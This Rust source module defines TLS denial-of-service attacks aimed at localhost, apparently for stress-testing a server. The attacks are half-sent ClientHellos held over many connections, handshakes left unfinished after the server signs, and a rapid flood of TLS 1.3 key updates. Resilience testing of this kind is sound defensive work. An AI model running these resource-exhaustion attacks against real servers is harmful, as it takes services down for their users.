//! Attacks during and after TLS handshakes.

use std::{sync::Arc, time::Duration};

use rustls::{
    ClientConfig, ClientConnection, RootCertStore,
    crypto::aws_lc_rs,
    pki_types::{CertificateDer, ServerName, pem::PemObject},
};
use tokio::{io::AsyncWriteExt, time::interval};
use tokio_rustls::TlsConnector;

use super::{Attack, Script};

/// How often a handshake that never ends gets another connection's worth of work.
const RENEWAL: Duration = Duration::from_millis(1);

/// The key updates in one write.
const BATCH: usize = 100;

/// The first half of a ClientHello, and then nothing.
#[must_use]
pub fn half_client_hellos(connections: u32) -> Attack {
    let mut hello = client_hello();
    hello.truncate(hello.len() / 2);
    Script::new(hello).over(connections)
}

/// A ClientHello that the server answers with a signature, and then nothing.
#[must_use]
pub fn unfinished_handshakes(connections: u32) -> Attack {
    Script::new(client_hello()).over(connections)
}

/// Requests for new keys, as fast as the server reads (the form that renegotiation
/// has in TLS 1.3). `ca` is the PEM of the CA that issued the server's certificate
/// for `localhost`.
///
/// # Panics
/// If `ca` is not a certificate.
#[must_use]
pub fn key_updates(ca: &str) -> Attack {
    let mut roots = RootCertStore::empty();
    roots
        .add(CertificateDer::from_pem_slice(ca.as_bytes()).unwrap())
        .unwrap();
    let connector = TlsConnector::from(config(roots));
    Attack::new(1, move |stream, established| {
        let connector = connector.clone();
        async move {
            let mut stream = connector.connect(localhost(), stream).await?;
            established.set();
            let mut pace = interval(RENEWAL);
            loop {
                pace.tick().await;
                for _ in 0..BATCH {
                    stream.get_mut().1.refresh_traffic_keys()?;
                }
                stream.flush().await?;
            }
        }
    })
}

fn client_hello() -> Vec<u8> {
    let config = config(RootCertStore::empty());
    let mut hello = Vec::new();
    let mut connection = ClientConnection::new(config, localhost()).unwrap();
    connection.write_tls(&mut hello).unwrap();
    hello
}

fn config(roots: RootCertStore) -> Arc<ClientConfig> {
    let provider = Arc::new(aws_lc_rs::default_provider());
    let builder =
        ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions();
    let mut config = builder
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(config)
}

fn localhost() -> ServerName<'static> {
    ServerName::try_from("localhost").unwrap()
}
